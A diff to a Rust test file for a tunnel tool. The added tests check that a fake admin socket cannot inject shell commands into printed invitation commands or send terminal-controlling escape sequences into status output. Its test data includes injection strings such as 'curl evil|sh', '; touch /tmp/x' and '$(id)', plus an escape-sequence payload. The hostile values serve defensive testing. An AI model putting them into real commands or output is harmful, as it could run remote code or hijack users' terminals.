@@ -1,14 +1,18 @@
-//! Strangers that must be refused: expired and foreign certificates, guessed tokens and invitations, pages of strangers
-//! at the admin port, and clients that look for admin ports behind an edge.
+//! Strangers that must be refused: expired and foreign certificates, guessed tokens, pages of strangers at the admin
+//! port, clients that look for admin ports behind an edge, and impostors at the admin socket.
 
 use std::net::SocketAddr;
+use std::path::PathBuf;
 use std::sync::Arc;
 use std::time::{Duration, SystemTime};
 
+use clap::Parser as _;
 use futures_util::future::join_all;
 use rcgen::{CertificateParams, DistinguishedName, DnType, ExtendedKeyUsagePurpose, Issuer, KeyPair};
-use tokio::io::AsyncReadExt as _;
-use tokio::net::TcpStream;
+use serde_json::Value;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::{TcpStream, UnixListener};
+use tokio::sync::watch;
 use tokio::time::Instant;
 use tokio_rustls::TlsConnector;
 use tokio_rustls::client::TlsStream;
@@ -18,6 +22,9 @@ use tokio_rustls::rustls::pki_types::pem::PemObject as _;
 use tokio_rustls::rustls::pki_types::{CertificateDer, PrivateKeyDer};
 use tokio_rustls::rustls::{ClientConfig, HandshakeKind, RootCertStore, version};
 use tonic::Code;
+use tunnel::command::{Args, Command, Format, invitations, status};
+use tunnel::config::Environment;
+use tunnel::invitations::InvitationCode;
 use tunnel_base::names::Instance;
 use tunnel_net::pki::CertificateAuthority;
 use tunnel_net::tls::certificate::EDGE;
@@ -26,7 +33,7 @@ use tunnel_proto::hello::Hello;
 
 use crate::support::clients::{ask, get};
 use crate::support::programs::{NAME, TOKEN, TestDir, TestServer, at, edge, edge_with};
-use crate::support::{assert_eventually, remote, wait_until};
+use crate::support::{assert_eventually, beside, remote, wait_until};
 
 /// Starts a server with egress and HTTPS ports that accept certificates of its CA with these names.
 fn server(place: &TestDir, names: &str) -> TestServer {
@@ -265,3 +272,88 @@ async fn no_edge_dials_an_admin_port_of_another_process_on_its_machine() {
 
 /// Validity of a certificate that must expire within a test: long enough for six handshakes on a busy machine.
 const BRIEF: Duration = Duration::from_secs(12);
+
+/// Serves an admin socket that another program has: each connection gets the answer that is set.
+fn impostor(place: &TestDir) -> (PathBuf, watch::Sender<String>) {
+    let path = place.path().join("server.sock");
+    let (listener, answers) = (UnixListener::bind(&path).unwrap(), watch::Sender::new(String::new()));
+    let answer = answers.subscribe();
+    beside(async move {
+        while let Ok((mut socket, _)) = listener.accept().await {
+            let body = answer.borrow().clone();
+            let _ = socket.read(&mut [0; 4096]).await;
+            let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len());
+            let _ = socket.write_all((head + &body).as_bytes()).await;
+        }
+    });
+    (path, answers)
+}
+
+#[tokio::test]
+async fn an_impostor_at_the_socket_gets_no_command_into_an_invitation() {
+    let place = TestDir::new();
+    let (socket, answers) = impostor(&place);
+    let code = |node: &str| InvitationCode::random([7; 16], node.parse().unwrap()).to_string();
+    let (right, other) = (code("node1"), code("node2"));
+    let run = async |code: &str, cloud: &str| {
+        answers.send_replace(format!(r#"{{"code": {code:?}, "until": 1, "cloud": {cloud:?}}}"#));
+        let line = ["tunnel", "invite", "--node", "node1", "--socket", socket.to_str().unwrap()];
+        let Command::Invite(asked) = Args::parse_from(line).command else { panic!("{line:?}") };
+        invitations::invite(asked, &Environment::default()).await
+    };
+    let told = run(&right, "tunnel.test:9000").await.unwrap();
+    assert!(
+        told.contains(&format!("echo {right} | tunnel join tunnel.test:9000 --invitation -\n")),
+        "{told}"
+    );
+    for (code, cloud) in [
+        ("iAAAA.n1; curl evil|sh #", "tunnel.test:9000"),
+        (&right, "tunnel.test:1; touch /tmp/x #"),
+        (&right, "$(id):9000"),
+        (&right, "a b:9000"),
+        (&other, "tunnel.test:9000"),
+        (&format!("{right}\n id"), "tunnel.test:9000"),
+    ] {
+        let told = run(code, cloud).await.unwrap_err();
+        assert!(told.text.contains("incompatible version"), "{code}, {cloud}: {told}");
+    }
+}
+
+/// Adds text that controls a terminal to each text of a response.
+fn poison(value: &mut Value) {
+    match value {
+        Value::String(text) => text.push_str(WILD),
+        Value::Array(values) => values.iter_mut().for_each(poison),
+        Value::Object(fields) => fields.values_mut().for_each(poison),
+        _ => {}
+    }
+}
+
+#[tokio::test]
+async fn an_impostor_at_the_socket_controls_no_terminal() {
+    let place = TestDir::new();
+    let server = TestServer::start(&place);
+    let _edge = edge(&place, &server, "node1").await;
+    let (socket, answers) = impostor(&place);
+    for path in ["/status", "/nodes"] {
+        let mut body: Value = serde_json::from_str(&get(server.server.bound.log, path).await.body).unwrap();
+        poison(&mut body);
+        for (body, is_json) in [(body.to_string(), true), (WILD.to_owned(), false)] {
+            answers.send_replace(body);
+            for output in [Format::Text, Format::Json] {
+                let (at, env) = (Some(socket.clone()), Environment::default());
+                let told = match path {
+                    "/status" => status::status(at, output, &env).await,
+                    _ => status::nodes(at, output, &env).await,
+                };
+                assert_eq!(told.is_ok(), is_json, "{path}: {told:?}");
+                let text = told.unwrap_or_else(|error| error.text);
+                let is_plain = |c: char| c == '\n' || !c.is_control() && c != '\u{202e}';
+                assert!(text.chars().all(is_plain), "{path}, {output:?}: {text:?}");
+            }
+        }
+    }
+}
+
+/// Text that clears a terminal's screen, changes its colour, rings, and reverses the direction of writing.
+const WILD: &str = "\u{1b}[2J\u{9b}31m\u{7}\u{202e}";
